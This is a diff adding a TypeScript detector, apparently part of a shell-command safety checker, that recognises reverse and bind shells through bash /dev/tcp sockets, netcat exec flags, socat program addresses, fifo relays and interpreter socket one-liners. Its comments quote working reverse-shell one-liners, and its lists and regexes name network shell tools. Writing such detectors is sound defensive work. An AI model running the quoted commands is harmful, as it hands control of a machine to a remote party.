@@ -1,0 +1,109 @@
+/**
+ * reverse-shell: a shell or an interpreter whose input and output are a network connection, towards a remote
+ * host (reverse) or from whoever connects (bind). Five shapes, each read off the analysis, not the text:
+ * - a bash `/dev/tcp|udp/HOST/PORT` socket opened for a code runner (`bash -i >& /dev/tcp/h/p 0>&1`), kept open
+ *   by `exec` for the rest of the string (`exec 5<>/dev/tcp/h/p; sh <&5 >&5`), or read in both directions;
+ * - a netcat that runs a program for its peer (`nc -e /bin/sh`, `nc -c bash`, `ncat --exec`, `--sh-exec`);
+ * - socat joining a program address (`EXEC:`, `SYSTEM:`) to a socket address;
+ * - a shell that reads its program from stdin beside a raw network client in the same string (the fifo relay
+ *   `cat f | sh -i 2>&1 | nc h p > f`);
+ * - an interpreter one-liner that opens a socket and runs a shell or rewires descriptors onto it (`socket…dup2`,
+ *   `fsockopen…exec`, awk's `/inet/tcp`).
+ * A plain socket read or write (`echo > /dev/tcp/localhost/5432` as a port check) is not one.
+ */
+import { posix } from "node:path";
+import { interpreterOf } from "../shell/interpreters.ts";
+import type { Redirect, ShellFinding, SimpleCommand } from "../shell/types.ts";
+import { SHELLS } from "../shell/wrappers.ts";
+import { commandsOf, longValues, operands, shortLetters, shown } from "./commands.ts";
+import type { Check } from "./types.ts";
+
+export const reverseShell: Check = (op) => {
+  const commands = commandsOf(op);
+  for (const cmd of commands) {
+    const reason = socketRedirect(cmd) ?? netcatExec(cmd) ?? socatExec(cmd);
+    if (reason !== null) return reason;
+  }
+  const relay = shellRelay(commands);
+  if (relay !== null) return relay;
+  for (const f of op.shell?.findings ?? []) {
+    const reason = socketCode(f);
+    if (reason !== null) return reason;
+  }
+  return null;
+};
+
+/** Programs that run what they read or are given: a socket on one of them is a remote shell. */
+const CODE_RUNNERS: ReadonlySet<string> = new Set(["eval", "source", ".", "exec", "xargs", "env", "command", "builtin"]);
+
+function runsCode(program: string): boolean {
+  return SHELLS.has(program) || CODE_RUNNERS.has(program) || interpreterOf(program) !== null || program.startsWith("$") || program.includes("`");
+}
+
+/** The `/dev/tcp|udp/…` socket a redirect opens, as bash reads it; null otherwise. */
+function socketOf(r: Redirect): string | null {
+  if (r.target === null) return null;
+  const path = posix.normalize(r.target);
+  return /^\/dev\/(?:tcp|udp)\/[^/]+\/[^/]+$/.test(path) ? path : null;
+}
+
+function socketRedirect(cmd: SimpleCommand): string | null {
+  for (const r of cmd.redirects) {
+    const socket = socketOf(r);
+    if (socket === null) continue;
+    if (cmd.program === "exec") return `exec keeps ${socket} open for the commands that follow (reverse shell)`;
+    if (runsCode(cmd.program)) return `${cmd.program} runs with its input or output on ${socket} (reverse shell)`;
+    if (r.mode === "readwrite") return `${shown(cmd)} reads and writes ${socket} (reverse shell)`;
+  }
+  return null;
+}
+
+const NETCATS: ReadonlySet<string> = new Set(["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "cryptcat"]);
+/** netcat short options that take a value (across the traditional, OpenBSD and nmap variants). */
+const NC_VALUE_LETTERS = "ceIimOpqsTVwXxbPMg";
+const NC_EXEC_LONG = ["--exec", "--sh-exec", "--lua-exec"];
+
+function netcatExec(cmd: SimpleCommand): string | null {
+  if (!NETCATS.has(cmd.program)) return null;
+  const letters = shortLetters(cmd, NC_VALUE_LETTERS);
+  const long = NC_EXEC_LONG.some((o) => longValues(cmd, o).length > 0 || cmd.args.includes(o));
+  if (letters.has("e") || letters.has("c") || long) return `${shown(cmd)} hands a shell to its peer (reverse or bind shell)`;
+  return null;
+}
+
+/** socat address types that stay on this machine; any other is a socket (tcp, udp, openssl, unix, socks, …). */
+const LOCAL_ADDRESSES: ReadonlySet<string> = new Set([
+  "-", "stdio", "stdin", "stdout", "stderr", "file", "open", "create", "gopen", "pipe", "fd", "pty", "readline", "exec", "system", "shell",
+]);
+const PROGRAM_ADDRESSES: ReadonlySet<string> = new Set(["exec", "system", "shell"]);
+
+function socatExec(cmd: SimpleCommand): string | null {
+  if (cmd.program !== "socat") return null;
+  const types = operands(cmd).map((a) => /^[^:,]*/.exec(a)![0].toLowerCase());
+  const runs = types.some((t) => PROGRAM_ADDRESSES.has(t));
+  const socket = types.some((t) => !LOCAL_ADDRESSES.has(t) && !/^\d+$/.test(t));
+  if (runs && socket) return `${shown(cmd)} joins a program to a socket (reverse or bind shell)`;
+  return null;
+}
+
+/** Clients that hold a raw connection open, whose data a shell beside them can read and answer. */
+const RAW_CLIENTS: ReadonlySet<string> = new Set([...NETCATS, "socat", "telnet", "openssl", "gnutls-cli", "ncat"]);
+
+function shellRelay(commands: readonly SimpleCommand[]): string | null {
+  const client = commands.find((c) => RAW_CLIENTS.has(c.program) && (c.program !== "openssl" || c.args.includes("s_client") || c.args.includes("s_server")));
+  if (client === undefined) return null;
+  const shell = commands.find((c) => SHELLS.has(c.program) && operands(c, ["-o", "-O", "--rcfile", "--init-file"]).length === 0);
+  if (shell === undefined) return null;
+  return `${shell.program} reads its commands beside ${client.program}, a raw network connection (reverse shell)`;
+}
+
+/** In one-liner code: a socket is opened, and a shell is run or descriptors are rewired. */
+const NET = /\b(?:socket|fsockopen|pfsockopen|stream_socket_(?:client|server)|TCPSocket|TCPServer|UDPSocket|IO::Socket|createConnection|createServer|net\.connect|Socket)\b|require\(\s*['"](?:node:)?(?:net|dgram|tls)['"]|\/inet6?\/(?:tcp|udp)\//i;
+const RUN = /\b(?:dup2?|pty|spawn\w*|exec\w*|system|popen\w*|proc_open|passthru|shell_exec|child_process|subprocess|fork|open3|pipe)\b|`|\|&/;
+
+function socketCode(f: ShellFinding): string | null {
+  if (f.kind !== "interpreter-code") return null;
+  if (f.language === "awk" && /\/inet6?\/(?:tcp|udp)\//.test(f.code)) return "awk opens a network socket (/inet/…) and talks to it (reverse shell)";
+  if (NET.test(f.code) && RUN.test(f.code)) return `${f.language} one-liner opens a socket and runs code for it (reverse shell)`;
+  return null;
+}
